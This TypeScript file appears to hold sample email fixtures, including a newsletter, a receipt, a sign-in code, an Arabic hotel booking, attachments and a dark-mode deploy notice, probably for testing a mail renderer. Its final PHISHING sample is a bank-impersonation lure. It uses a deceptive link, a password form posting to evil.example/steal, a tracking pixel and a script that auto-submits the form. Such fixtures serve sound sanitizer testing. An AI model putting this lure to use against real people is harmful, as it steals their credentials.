import type { SampleMail } from "./sample-mails.ts";
import { drawPng } from "./draw-png.ts";

/** A low sun over water, as the header image of a mail. */
const dusk = drawPng(560, 140, (x, y) => {
  const sun = Math.hypot(x - 400, y - 92) < 26 && y < 92;
  const glow = Math.max(0, 1 - Math.hypot(x - 400, y - 92) / 260);
  if (sun) return [255, 214, 140];
  const wave = y >= 92 && (y + Math.round(Math.sin(x / 19) * 2)) % 9 === 0 ? 22 : 0;
  return [40 + 170 * glow + wave, 70 + 80 * glow + wave, 92 + 10 * glow + wave];
});

export const NEWSLETTER: SampleMail = {
  name: "newsletter",
  subject: "Field Notes 41: What the swifts do in November",
  from: "Field Notes <letters@field-notes.example>",
  text: "Field Notes 41. They have not landed since July.",
  html: `<body style="margin:0;background:#efece4"><table width="100%" cellpadding="0" cellspacing="0" bgcolor="#efece4"><tr><td align="center" style="padding:24px 12px">
<table width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="width:600px;font-family:Georgia,serif;color:#2b2a26">
<tr><td style="padding:28px 32px 8px;font-size:13px;letter-spacing:2px;color:#8a7f66">FIELD NOTES &middot; 41</td></tr>
<tr><td style="padding:0 32px"><img src="https://cdn.field-notes.example/41/head.jpg" width="536" height="180" alt="Swifts over roofs" style="display:block"></td></tr>
<tr><td style="padding:20px 32px 8px;font-size:28px;line-height:34px">What the swifts do in November</td></tr>
<tr><td style="padding:0 32px 20px;font-size:16px;line-height:26px">They have not landed since July. Somewhere above the Congo they sleep in turns, half a brain at a time, a kilometre up. We asked three people who follow them with loggers lighter than a paperclip what that looks like on a map.</td></tr>
<tr><td style="padding:0 32px 28px"><a href="https://field-notes.example/41?utm_source=letter&amp;utm_campaign=41&amp;mc_eid=82bd" style="background:#8f4a10;color:#fff;text-decoration:none;padding:12px 20px;display:inline-block;font-size:15px">Read the essay</a></td></tr>
<tr><td bgcolor="#f7f5f0" style="padding:16px 32px;font-size:12px;line-height:18px;color:#7b766a">You get this because you signed up at field-notes.example. <a href="https://field-notes.example/bye?utm_source=letter" style="color:#7b766a">Unsubscribe</a></td></tr>
</table></td></tr></table><img src="https://u41.ct.sendgrid.net/wf/open?upn=82bd" width="1" height="1" alt=""></body>`,
};

export const RECEIPT: SampleMail = {
  name: "receipt",
  subject: "Receipt for order 20418",
  from: "Papershop <orders@papershop.example>",
  text: "Two notebooks, dotted, A5. 21.80 paid by card.",
  html: `<div style="font:15px/22px Arial,sans-serif;color:#222;max-width:560px"><p style="font-size:20px;line-height:28px;margin:0 0 4px">Thank you, it is on its way.</p>
<p style="margin:0 0 20px;color:#666">Order 20418, 21 November 2026</p>
<table width="100%" cellpadding="8" cellspacing="0" style="border-collapse:collapse;font-size:14px">
<tr style="border-bottom:1px solid #ddd;color:#666"><th align="left">Item</th><th align="right">Count</th><th align="right">Price</th></tr>
<tr style="border-bottom:1px solid #eee"><td>Notebook, dotted, A5</td><td align="right">2</td><td align="right">17.80</td></tr>
<tr style="border-bottom:1px solid #eee"><td>Postage</td><td align="right">1</td><td align="right">4.00</td></tr>
<tr><td></td><td align="right"><b>Total</b></td><td align="right"><b>21.80 &euro;</b></td></tr></table>
<p style="margin:20px 0 0">Questions? <a href="mailto:orders@papershop.example">orders@papershop.example</a></p></div>`,
};

export const CODE: SampleMail = {
  name: "code",
  subject: "Your sign-in code",
  from: "Harbour <no-reply@harbour.example>",
  text: "Use this code to finish signing in to Harbour: 482 913. It works for ten minutes and only once.",
  html: `<div style="font-family:-apple-system,Segoe UI,Helvetica,Arial,sans-serif;color:#111;padding:8px 4px"><p style="margin:0 0 12px;font-size:16px">Use this code to finish signing in to Harbour:</p>
<p style="margin:0 0 12px;font:600 34px/44px Menlo,Consolas,monospace;letter-spacing:6px">482 913</p>
<p style="margin:0;font-size:14px;color:#555">It works for ten minutes and only once. If it wasn't you, do nothing.</p></div>`,
};

export const ARABIC: SampleMail = {
  name: "arabic",
  subject: "تأكيد حجزك في فندق النخيل",
  from: "فندق النخيل <booking@nakheel.example>",
  text: "تم تأكيد حجزك.",
  html: `<div style="font-size:17px;line-height:1.8"><h2 style="margin:0 0 8px">تم تأكيد حجزك</h2>
<p>مرحباً ليلى، نتطلع إلى استقبالك في <b>فندق النخيل</b>. رقم الحجز <span dir="ltr">NK-20418</span>.</p>
<table cellpadding="6" style="border-collapse:collapse"><tr><td style="color:#777">الوصول</td><td>21 نوفمبر 2026، بعد الساعة 15:00</td></tr><tr><td style="color:#777">المغادرة</td><td>24 نوفمبر 2026</td></tr></table>
<p><a href="https://nakheel.example/b/20418">عرض الحجز</a></p></div>`,
};

export const ATTACHMENTS: SampleMail = {
  name: "attachments",
  subject: "The plans, and how it looked last night",
  from: "Ida Brandt <ida@studio-brandt.example>",
  text: "Here they are.",
  html: `<p>Hello,</p><p>here are the plans with the corrections of Thursday. The picture is from last night, from where the bench will stand:</p><p><img src="cid:dusk@studio-brandt.example" width="560" alt="The water at dusk"></p><p>Ida</p>`,
  attachments: [
    { filename: "dusk.png", cid: "dusk@studio-brandt.example", content: dusk },
    {
      filename: "Plan A, corrected.pdf",
      contentType: "application/pdf",
      content: Buffer.alloc(482_000, "%PDF-1.7 "),
    },
    { filename: "Measures.xlsx", content: Buffer.alloc(21_400, "x") },
    {
      filename: "Bank, seen from the north-east, before the lamps were lit, second attempt.png",
      content: dusk,
    },
  ],
};

export const DARK_SCHEME: SampleMail = {
  name: "dark-scheme",
  subject: "Deploy 812 is live",
  from: "Relay <builds@relay.example>",
  text: "Deploy 812 is live.",
  html: `<html><head><meta name="color-scheme" content="light dark"><style>
:root{color-scheme:light dark} body{margin:0;padding:28px;background:#f4f6fb;color:#1b2130;font:15px/24px Helvetica,Arial,sans-serif}
.card{background:#fff;border:1px solid #dfe4ee;border-radius:12px;padding:20px 24px} .ok{color:#17714a;font-weight:bold} .muted{color:#5b6577} a{color:#2457c5}
@media (prefers-color-scheme: dark){body{background:#11151d;color:#e8ecf4}.card{background:#1a202b;border-color:#2c3444}.ok{color:#6fdca6}.muted{color:#97a3b8}a{color:#8db4ff}}
</style></head><body><div class="card"><div class="ok">Live</div><div style="font-size:22px;line-height:30px;margin:4px 0 8px">Deploy 812</div><div class="muted">main, 3 commits, 41 s. No errors in the first five minutes.</div><p style="margin:16px 0 0"><a href="https://relay.example/d/812">Look at the deploy</a></p></div></body></html>`,
};

export const PHISHING: SampleMail = {
  name: "phishing",
  subject: "Your account will be closed in 24 hours!!",
  from: '"Nordbank Security" <alerts@nordbank-verify.example>',
  text: "Confirm now.",
  html: `<form action="https://evil.example/steal"><div style="font:15px/22px Arial,sans-serif;color:#222"><div style="background:#0a3d7a;color:#fff;padding:14px 18px;font-size:18px">Nordbank</div>
<div style="padding:18px;border:1px solid #d5dbe4"><p>Dear customer,</p><p>we noticed unusual activity. Confirm your details within <b>24 hours</b>, or your account will be closed:</p>
<p><a href="https://nordbank.com.login.evil.example/x?id=82bd">https://www.nordbank.com/login</a></p>
<p>Password: <input type="password" name="p"> <button>Confirm</button></p><p style="color:#777;font-size:12px">Nordbank AG, Customer Security</p></div></div></form>
<img src="https://evil.example/seen.gif?id=82bd" width="1" height="1"><script>document.forms[0].submit()</script>`,
};
